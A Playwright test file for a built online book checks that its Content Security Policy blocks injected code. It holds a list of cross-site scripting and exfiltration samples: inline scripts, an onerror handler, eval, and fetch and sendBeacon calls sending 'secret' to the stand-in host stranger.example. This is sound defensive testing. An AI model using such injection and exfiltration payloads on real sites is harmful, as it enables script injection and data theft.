"""Code that got into a built page can neither run nor tell; what belongs there runs as before."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.book_pages import Watch, settle

if TYPE_CHECKING:
    from playwright.sync_api import Page

CHAPTER = "chapters/pooling.html"

RECORD = """globalThis.violations = [];
addEventListener("securitypolicyviolation", (event) => {
    violations.push(event.effectiveDirective);
});"""

ATTACKS = {
    "an inline script": (
        "script-src-elem",
        """() => {
            const script = document.createElement("script");
            script.textContent = "globalThis.taken = true";
            document.body.append(script);
        }""",
    ),
    "a script from elsewhere": (
        "script-src-elem",
        """() => {
            const script = document.createElement("script");
            script.src = "https://stranger.example/a.js";
            document.body.append(script);
        }""",
    ),
    "a handler in markup": (
        "script-src-attr",
        """() => {
            document.querySelector("h1").innerHTML = "<img src=x onerror='taken = true'>";
        }""",
    ),
    "a link that is code": (
        "script-src-elem",
        """() => {
            const link = document.createElement("a");
            link.href = "javascript:globalThis.taken = true";
            document.body.append(link);
            link.click();
        }""",
    ),
    "text run as code": (
        "script-src",
        # later: what is run for the test itself may do so
        """() => new Promise((done) => setTimeout(() => {
            try { eval("globalThis.taken = true"); } catch { done(); }
        }))""",
    ),
    "a function made of text": (
        "script-src",
        """() => new Promise((done) => setTimeout(() => {
            try { new Function("globalThis.taken = true")(); } catch { done(); }
        }))""",
    ),
    "a picture from elsewhere": (
        "img-src",
        """() => { new Image().src = "https://stranger.example/?secret"; }""",
    ),
    "a style sheet from elsewhere": (
        "style-src-elem",
        """() => {
            const style = document.createElement("style");
            style.textContent = "@import 'https://stranger.example/a.css'";
            document.head.append(style);
        }""",
    ),
    "a request": (
        "connect-src",
        """() => fetch("https://stranger.example/?secret").catch(() => {})""",
    ),
    "a message home": (
        "connect-src",
        """() => { navigator.sendBeacon("https://stranger.example/", "secret"); }""",
    ),
    "a frame": (
        "frame-src",
        """() => {
            const frame = document.createElement("iframe");
            frame.src = "https://stranger.example/";
            document.body.append(frame);
        }""",
    ),
    "a form sent elsewhere": (
        "form-action",
        """() => {
            const form = document.createElement("form");
            form.action = "https://stranger.example/";
            document.body.append(form);
            form.submit();
        }""",
    ),
    "another home for its links": (
        "base-uri",
        """() => {
            const base = document.createElement("base");
            base.href = "https://stranger.example/";
            document.head.append(base);
        }""",
    ),
}
"""Attempts of code that got into a page, and the part of the policy that stops each."""


@pytest.mark.parametrize("where", ["http", "disk"])
def test_what_got_into_a_page_can_neither_run_nor_tell(
    where: str, page: Page, book_dir: Path, book_url: str
) -> None:
    home = book_url if where == "http" else book_dir.as_uri() + "/"
    page.add_init_script(RECORD)
    watch = Watch(page)
    page.goto(home + CHAPTER)
    settle(page)
    assert page.evaluate("violations") == []
    for name, (directive, attack) in ATTACKS.items():
        page.evaluate("violations.length = 0")
        page.evaluate(attack)
        page.wait_for_function("() => violations.length > 0")
        assert set(page.evaluate("violations")) == {directive}, name
    told = [one for one in watch.complaints if "Content Security Policy" in one]
    assert len(told) >= len(ATTACKS) - 2  # two catch the error: so tests of quiet pages hear these
    assert page.evaluate("globalThis.taken") is None
    assert page.url == home + CHAPTER
    outside = [one for one in watch.requests if "stranger.example" in one.url]
    assert {one.failure for one in outside} == {"csp"}  # none of them left the browser


def embed(page: Page, home: str) -> Any:
    """Open the first explorer of a chapter alone; return its answer."""
    page.add_init_script(RECORD)
    page.goto(home + CHAPTER)
    settle(page)
    name = page.locator(".cnn-live[id]:has([data-explorer])").first.get_attribute("id")
    page.goto(f"{home}{CHAPTER}?embed={name.removeprefix('explorer-')}")
    page.wait_for_selector("html.cnn-embed [data-explorer][data-ready]")
    return page.evaluate("document.querySelector('[data-explorer]').answer()")


@pytest.mark.parametrize("where", ["http", "disk"])
def test_an_explorer_shown_alone_lives(
    where: str, page: Page, book_dir: Path, book_url: str
) -> None:
    watch = Watch(page)
    answer = embed(page, book_url if where == "http" else book_dir.as_uri() + "/")
    assert len(answer) > 0
    assert page.evaluate("violations") == []
    assert watch.complaints == []
